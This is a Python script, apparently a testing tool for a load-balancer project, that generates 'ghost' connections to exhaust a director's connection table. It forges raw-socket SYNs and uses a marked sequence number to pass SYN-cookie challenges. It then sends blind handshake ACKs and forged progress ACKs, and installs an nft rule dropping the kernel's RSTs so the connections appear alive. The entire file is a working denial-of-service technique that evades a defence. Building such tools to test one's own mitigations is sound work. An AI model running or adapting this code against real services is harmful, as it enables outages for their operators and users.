#!/usr/bin/env python3
"""Ghost bots: real-address bots that make the director believe they are served keep-alive clients
while the real servers hold nothing for them.

Each ghost connection, from one of --addrs (addresses this namespace owns), on raw sockets:
  1. A Linux-shaped SYN (MSS 1460, SACK_PERM, timestamps, NOP, WS 7; TTL 64, DF, window 64240) to
     VIP:port from a fresh source port, with an ISN whose low 16 bits are 0xBEEF (the marker).
  2. The SYN-ACKs from VIP:port to that (address, port), read on a raw IPPROTO_TCP socket:
     - ack != ISN+1: the director's challenge (a cookie). This namespace's kernel has no socket for
       the connection, so it answers by itself with an RST whose sequence number is that ack: the
       right answer, and the source becomes verified. Nothing is sent for it here; the SYN goes
       again ~15 ms later (same ISN, same port).
     - ack == ISN+1: the real server's. Its sequence number is ignored on purpose: the handshake's
       ACK (seq ISN+1, a made-up acknowledgement number), the request (PSH|ACK) and then, every
       --interval-s (jittered +-30%), a pure ACK whose acknowledgement number advances by 1000
       (forged server progress) all go out blind. The server drops them (they acknowledge nothing
       it sent) and keeps nothing established. The kernel's own RST for this SYN-ACK (seq ISN+1,
       low 16 bits 0xBEF0) would reach the director and end its entry: an nft rule this program
       installs in the output hook drops exactly the RSTs whose sequence number ends in 0xBEF0
       (a challenge's RST, seq = a random cookie, collides 1 time in 65536).
     - no SYN-ACK: the SYN again at 1 s and 3 s after the first (as a kernel), and at 7 s (when a
       kernel would send its third) the connection is given up and a new one started.
  3. A ghost lives --lifetime-s (jittered +-30%) from its handshake's ACK, then sends nothing more
     (no FIN) and a new one (new port, new ISN) takes its place. The director may shed it (an RST
     to the real server that the ghost never hears of); the lifetime keeps the pressure constant.

--per connections per address, ramped in at --ramp-per-s. One thread, a select loop, one raw send
socket (IP_HDRINCL) and one raw sniff socket (with a BPF filter: SYN-ACKs from VIP:port only).
The nft table is per process (sluice_ghost_<pid>: two ghost.py may share a namespace), removed on
exit (normal, SIGTERM, SIGINT); tables left by killed ghost.py processes are removed at start.

  python3 ghost.py --host VIP --port 80 --addrs a,b,c --per N --interval-s 3 [--lifetime-s 20]

Prints once a second {"open": N, "connecting": N, "opened": N, "closed": N, "forged": N,
"challenges": N, "serverSynAcks": N, "synsSent": N}: open = ghosts past the handshake's ACK and
alive; connecting = ghosts waiting for the server's SYN-ACK; opened/closed = ghosts that reached
open / ended after it; forged = progress ACKs sent; challenges = the director's SYN-ACKs seen;
serverSynAcks = the servers' SYN-ACKs seen (their retransmissions included); synsSent = SYNs sent
(retransmissions included). Exit status 1 if the nft rule cannot be installed.
"""
import argparse
import ctypes
import heapq
import json
import os
import random
import re
import select
import signal
import socket
import struct
import subprocess
import sys
import time

from rawtcp import raw_sender, segment
from spoof_ack import syn_options

MARK = 0xBEEF
SYN_RETX_AT = (1.0, 3.0)
SYN_GIVE_UP_AT = 7.0
CHALLENGE_RETX_S = 0.015
# A source that is challenged again and again: at most this many early retransmissions per ghost
# (then only the 1 s / 3 s ones).
CHALLENGE_RETX_MAX = 8
# The request's header, as bots.py's idle-hold one.
REQUEST = b"GET /?ghost=%d HTTP/1.1\r\nHost: www\r\nUser-Agent: Mozilla/5.0\r\n\r\n"
SO_ATTACH_FILTER = 26
SO_RCVBUFFORCE = 33
TABLE_PREFIX = "sluice_ghost_"
RULE = "tcp flags & rst == rst tcp sequence & 0xffff == 0xbef0 counter drop"


# ---------------------------------------------------------------------------------------------
# nft: the rule that drops the kernel's RSTs to the servers' SYN-ACKs.


def nft(script: str) -> subprocess.CompletedProcess:
    return subprocess.run(["nft", "-f", "-"], input=script, capture_output=True, text=True)


def remove_stale_tables() -> None:
    """Tables of ghost.py processes that are gone (SIGKILL)."""
    try:
        out = subprocess.run(["nft", "list", "tables", "ip"], capture_output=True, text=True).stdout
    except OSError:
        return
    for name in re.findall(r"table ip (%s(\d+))\b" % TABLE_PREFIX, out):
        table, pid = name[0], int(name[1])
        if pid == os.getpid():
            continue
        try:
            os.kill(pid, 0)
            continue
        except ProcessLookupError:
            pass
        except OSError:
            continue
        nft("delete table ip %s\n" % table)


def install_rule(table: str) -> None:
    # Atomic and idempotent: declare, delete, create (a table of the same name left behind goes).
    script = (
        "table ip %(t)s {}\n"
        "delete table ip %(t)s\n"
        "table ip %(t)s {\n"
        "  chain output {\n"
        "    type filter hook output priority 0; policy accept;\n"
        "    %(r)s\n"
        "  }\n"
        "}\n"
    ) % {"t": table, "r": RULE}
    try:
        res = nft(script)
    except OSError as e:
        raise SystemExit("ghost.py: cannot run nft (%s): the rule that drops the kernel's RSTs is needed" % e)
    if res.returncode != 0:
        raise SystemExit("ghost.py: nft failed to install the RST-dropping rule: %s" % (res.stderr.strip() or res.stdout.strip()))


def remove_rule(table: str) -> None:
    try:
        nft("delete table ip %s\n" % table)
    except OSError:
        pass


# ---------------------------------------------------------------------------------------------
# The sniffer: SYN-ACKs from VIP:port (a classic BPF filter keeps the rest out of the socket).


def bpf_syn_acks(vip: bytes, port: int) -> bytes:
    vip_n = struct.unpack("!I", vip)[0]
    # (code, jt, jf, k); jumps are relative to the next instruction. Offsets from the IP header.
    prog = [
        (0x20, 0, 0, 12),  #  0 ld [12]              source address
        (0x15, 0, 9, vip_n),  #  1 jeq #vip, -, drop
        (0x28, 0, 0, 6),  #  2 ldh [6]              fragment offset
        (0x45, 7, 0, 0x1FFF),  #  3 jset #0x1fff, drop, -
        (0xB1, 0, 0, 0),  #  4 ldxb 4*([0]&0xf)
        (0x48, 0, 0, 0),  #  5 ldh [x+0]            source port
        (0x15, 0, 4, port),  #  6 jeq #port, -, drop
        (0x50, 0, 0, 13),  #  7 ldb [x+13]           flags
        (0x54, 0, 0, 0x12),  #  8 and #0x12
        (0x15, 0, 1, 0x12),  #  9 jeq #SYN|ACK, accept, drop
        (0x06, 0, 0, 0xFFFF),  # 10 accept
        (0x06, 0, 0, 0),  # 11 drop
    ]
    return b"".join(struct.pack("HBBI", *ins) for ins in prog)


class Sniffer:
    def __init__(self, vip: bytes, port: int):
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
        self.sock.setblocking(False)
        for opt in (SO_RCVBUFFORCE, socket.SO_RCVBUF):
            try:
                self.sock.setsockopt(socket.SOL_SOCKET, opt, 8 << 20)
                break
            except OSError:
                pass
        self.filtered = False
        try:
            prog = bpf_syn_acks(vip, port)
            self._buf = ctypes.create_string_buffer(prog, len(prog))
            fprog = struct.pack("@HP", len(prog) // 8, ctypes.addressof(self._buf))
            self.sock.setsockopt(socket.SOL_SOCKET, SO_ATTACH_FILTER, fprog)
            self.filtered = True
        except (OSError, struct.error, ValueError):
            pass  # unfiltered: every segment is parsed and checked below


def ts_val_of(opts: bytes):
    """The TSval of a timestamps option, or None."""
    i = 0
    n = len(opts)
    while i < n:
        kind = opts[i]
        if kind == 0:
            return None
        if kind == 1:
            i += 1
            continue
        if i + 1 >= n:
            return None
        size = opts[i + 1]
        if size < 2 or i + size > n:
            return None
        if kind == 8 and size == 10:
            return struct.unpack("!I", opts[i + 2 : i + 6])[0]
        i += size
    return None


# ---------------------------------------------------------------------------------------------


class Ghost:
    __slots__ = (
        "slot", "addr", "sport", "isn", "ts_off", "ident", "guess", "state", "dead", "chal_retx",
        "chal_pending", "k", "seq", "ts_ecr", "n",
    )

    def __init__(self, slot: int, addr: bytes, sport: int, n: int):
        self.slot = slot
        self.addr = addr
        self.sport = sport
        self.isn = (random.getrandbits(16) << 16) | MARK
        self.ts_off = random.getrandbits(32)
        self.ident = random.getrandbits(16)
        self.guess = random.getrandbits(32)
        self.state = "syn"
        self.dead = False
        self.chal_retx = 0
        self.chal_pending = False
        self.k = 0
        self.seq = (self.isn + 1) & 0xFFFFFFFF
        self.ts_ecr = None
        self.n = n


class Ports:
    """Source ports for one address: outside the kernel's ephemeral range (the kernel's own
    connections from the same address cannot collide), handed out round-robin in a shuffled order
    so a port comes back as late as possible (the server may still hold a half-open for it)."""

    def __init__(self):
        lo, hi = 32768, 60999
        try:
            with open("/proc/sys/net/ipv4/ip_local_port_range") as f:
                lo, hi = (int(x) for x in f.read().split())
        except (OSError, ValueError):
            pass
        ports = [p for p in range(1024, 65536) if p < lo or p > hi]
        if len(ports) < 4096:
            ports = list(range(1024, 65536))
        random.shuffle(ports)
        self.ports = ports
        self.i = 0

    def take(self, busy) -> int:
        for _ in range(len(self.ports)):
            p = self.ports[self.i]
            self.i = (self.i + 1) % len(self.ports)
            if p not in busy:
                return p
        raise RuntimeError("no free source port")


def main() -> int:
    ap = argparse.ArgumentParser(description="ghost bots (see the module's docstring)")
    ap.add_argument("--host", required=True, help="the VIP")
    ap.add_argument("--port", type=int, default=80)
    ap.add_argument("--addrs", required=True, help="comma-separated source addresses this namespace owns")
    ap.add_argument("--per", type=int, default=4, help="connections per address")
    ap.add_argument("--interval-s", type=float, default=3.0, help="forged progress ACK every (+-30%%)")
    ap.add_argument("--lifetime-s", type=float, default=20.0, help="a ghost's life after its handshake (+-30%%)")
    ap.add_argument("--ramp-per-s", type=float, default=400.0)
    ap.add_argument("--nft-table", default=None, help="nft table name (default sluice_ghost_<pid>)")
    args = ap.parse_args()
    addrs = [a for a in args.addrs.split(",") if a]
    if not addrs or args.per < 1 or args.ramp_per_s <= 0 or args.interval_s <= 0 or args.lifetime_s <= 0:
        ap.error("need --addrs, --per >= 1 and positive --interval-s, --lifetime-s, --ramp-per-s")
    try:
        vip = socket.inet_aton(args.host)
        addr_b = [socket.inet_aton(a) for a in addrs]
    except OSError:
        ap.error("--host and --addrs must be IPv4 addresses")
    table = args.nft_table or "%s%d" % (TABLE_PREFIX, os.getpid())

    stopping = [False]

    def stop(_sig, _frame):
        stopping[0] = True

    signal.signal(signal.SIGTERM, stop)
    signal.signal(signal.SIGINT, stop)

    remove_stale_tables()
    try:
        install_rule(table)
    except SystemExit as e:
        sys.stderr.write("%s\n" % e)
        return 1
    try:
        return run(args, vip, addr_b, stopping)
    finally:
        remove_rule(table)


def run(args, vip: bytes, addr_b, stopping) -> int:
    stats = {"open": 0, "connecting": 0, "opened": 0, "closed": 0, "forged": 0, "challenges": 0, "serverSynAcks": 0, "synsSent": 0}
    errors = [0]
    sender = raw_sender()
    try:
        sender.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    except OSError:
        pass
    sniffer = Sniffer(vip, args.port)
    dst = (socket.inet_ntoa(vip), 0)
    port = args.port
    ports = {a: Ports() for a in addr_b}
    busy = {a: set() for a in addr_b}
    ghosts = {}  # (addr, sport) -> Ghost
    timers = []  # (due, tiebreak, kind, ghost or slot)
    tick = [0]
    made = [0]
    t_base = time.monotonic()

    def at(due: float, kind: str, obj) -> None:
        tick[0] += 1
        heapq.heappush(timers, (due, tick[0], kind, obj))

    def jitter(x: float) -> float:
        return x * random.uniform(0.7, 1.3)

    def ts_now(g: Ghost) -> int:
        return (int((time.monotonic() - t_base) * 1000) + g.ts_off) & 0xFFFFFFFF

    def send(g: Ghost, seq: int, ack: int, flags: int, opts: bytes = b"", payload: bytes = b"") -> bool:
        g.ident = (g.ident + 1) & 0xFFFF
        window = 64240 if flags & 0x02 else 502
        try:
            sender.sendto(segment(g.addr, vip, g.sport, port, seq, ack, flags, window, opts, payload, g.ident), dst)
            return True
        except OSError:
            errors[0] += 1
            return False

    def send_syn(g: Ghost) -> None:
        send(g, g.isn, 0, 0x02, syn_options(ts_now(g)))
        stats["synsSent"] += 1

    def ts_opt(g: Ghost) -> bytes:
        # As Linux once timestamps are agreed: NOP, NOP, TS (val, the server's TSval echoed).
        if g.ts_ecr is None:
            return b""
        return struct.pack("!BBBBII", 1, 1, 8, 10, ts_now(g), g.ts_ecr)

    def start(slot: int, now: float) -> None:
        a = addr_b[slot % len(addr_b)]
        sport = ports[a].take(busy[a])
        made[0] += 1
        g = Ghost(slot, a, sport, made[0])
        busy[a].add(sport)
        ghosts[(a, sport)] = g
        stats["connecting"] += 1
        send_syn(g)
        for t in SYN_RETX_AT:
            at(now + t, "syn", g)
        at(now + SYN_GIVE_UP_AT, "give_up", g)

    def end(g: Ghost, now: float) -> None:
        if g.dead:
            return
        g.dead = True
        ghosts.pop((g.addr, g.sport), None)
        busy[g.addr].discard(g.sport)
        if g.state == "open":
            stats["open"] -= 1
            stats["closed"] += 1
        else:
            stats["connecting"] -= 1
        if not stopping[0]:
            start(g.slot, now)

    def opened(g: Ghost, now: float) -> None:
        g.state = "open"
        stats["connecting"] -= 1
        stats["open"] += 1
        stats["opened"] += 1
        request = REQUEST % g.n
        send(g, g.seq, g.guess, 0x10, ts_opt(g))
        send(g, g.seq, g.guess, 0x18, ts_opt(g), request)
        g.seq = (g.seq + len(request)) & 0xFFFFFFFF
        at(now + jitter(args.interval_s), "progress", g)
        at(now + jitter(args.lifetime_s), "expire", g)

    def syn_ack(pkt: bytes, now: float) -> None:
        if len(pkt) < 40 or pkt[0] >> 4 != 4:
            return
        ihl = (pkt[0] & 15) * 4
        if ihl < 20 or len(pkt) < ihl + 20 or pkt[9] != socket.IPPROTO_TCP or pkt[12:16] != vip:
            return
        if struct.unpack("!H", pkt[6:8])[0] & 0x1FFF:
            return  # a fragment
        sport, dport, seq, ack, off, flags = struct.unpack("!HHIIBB", pkt[ihl : ihl + 14])
        if sport != port or flags & 0x16 != 0x12:  # SYN|ACK, no RST
            return
        g = ghosts.get((pkt[16:20], dport))
        if g is None:
            return
        if ack != (g.isn + 1) & 0xFFFFFFFF:
            # The director's challenge: the kernel answers it (RST, seq = ack) by itself.
            stats["challenges"] += 1
            if g.state == "syn" and not g.chal_pending and g.chal_retx < CHALLENGE_RETX_MAX:
                g.chal_pending = True
                g.chal_retx += 1
                at(now + CHALLENGE_RETX_S, "chal_syn", g)
            return
        stats["serverSynAcks"] += 1
        if g.state != "syn":
            return  # a retransmission of the server's SYN-ACK: the kernel's RST is dropped
        doff = (off >> 4) * 4
        if doff > 20 and len(pkt) >= ihl + doff:
            g.ts_ecr = ts_val_of(pkt[ihl + 20 : ihl + doff])
        opened(g, now)

    def fire(kind: str, obj, now: float) -> None:
        if kind == "start":
            if not stopping[0]:
                start(obj, now)
            return
        g = obj
        if g.dead:
            return
        if kind == "syn":
            if g.state == "syn":
                send_syn(g)
        elif kind == "chal_syn":
            g.chal_pending = False
            if g.state == "syn":
                send_syn(g)
        elif kind == "give_up":
            if g.state == "syn":
                end(g, now)
        elif kind == "progress":
            g.k += 1
            if send(g, g.seq, (g.guess + 1000 * g.k) & 0xFFFFFFFF, 0x10, ts_opt(g)):
                stats["forged"] += 1
            at(now + jitter(args.interval_s), "progress", g)
        elif kind == "expire":
            end(g, now)

    t0 = time.monotonic()
    total = args.per * len(addr_b)
    for i in range(total):
        at(t0 + i / args.ramp_per_s, "start", i)
    next_report = t0 + 1.0
    sock = sniffer.sock
    while not stopping[0]:
        now = time.monotonic()
        timeout = min(next_report - now, 0.1)
        if timers:
            timeout = min(timeout, timers[0][0] - now)
        try:
            readable, _, _ = select.select([sock], [], [], max(0.0, timeout))
        except InterruptedError:
            continue
        now = time.monotonic()
        if readable:
            for _ in range(4096):
                try:
                    pkt = sock.recv(65535)
                except (BlockingIOError, InterruptedError):
                    break
                except OSError:
                    errors[0] += 1
                    break
                try:
                    syn_ack(pkt, now)
                except (struct.error, IndexError, ValueError):
                    pass
        fired = 0
        while timers and timers[0][0] <= now and fired < 20000 and not stopping[0]:
            _, _, kind, obj = heapq.heappop(timers)
            fire(kind, obj, now)
            fired += 1
        if now >= next_report:
            next_report += 1.0
            if next_report <= now:
                next_report = now + 1.0
            sys.stdout.write(json.dumps(stats) + "\n")
            sys.stdout.flush()
            if errors[0]:
                sys.stderr.write("ghost.py: %d send/receive errors so far\n" % errors[0])
    sys.stdout.write(json.dumps(stats) + "\n")
    sys.stdout.flush()
    return 0


if __name__ == "__main__":
    sys.exit(main())
